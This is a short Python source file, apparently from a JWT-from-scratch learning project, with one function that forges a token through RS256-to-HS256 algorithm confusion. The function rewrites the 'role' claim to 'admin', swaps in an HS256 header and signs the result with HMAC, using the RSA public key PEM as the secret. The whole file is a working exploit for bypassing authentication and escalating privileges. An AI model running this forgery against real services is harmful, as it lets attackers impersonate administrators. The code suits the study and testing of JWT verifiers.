"""The claims changed, a new header, HMAC with the PEM."""

import hashlib
import hmac

from jwt_from_scratch.encoding import b64u_decode, b64u_encode, json_dumps, json_loads_strict


def forge_confused(token: str, public_pem: bytes) -> str:
    claims = json_loads_strict(b64u_decode(token.split(".")[1]))
    claims["role"] = "admin"
    signing_input = b64u_encode(json_dumps({"alg": "HS256", "typ": "JWT"})) + "." + b64u_encode(json_dumps(claims))
    return signing_input + "." + b64u_encode(hmac.new(public_pem, signing_input.encode(), hashlib.sha256).digest())
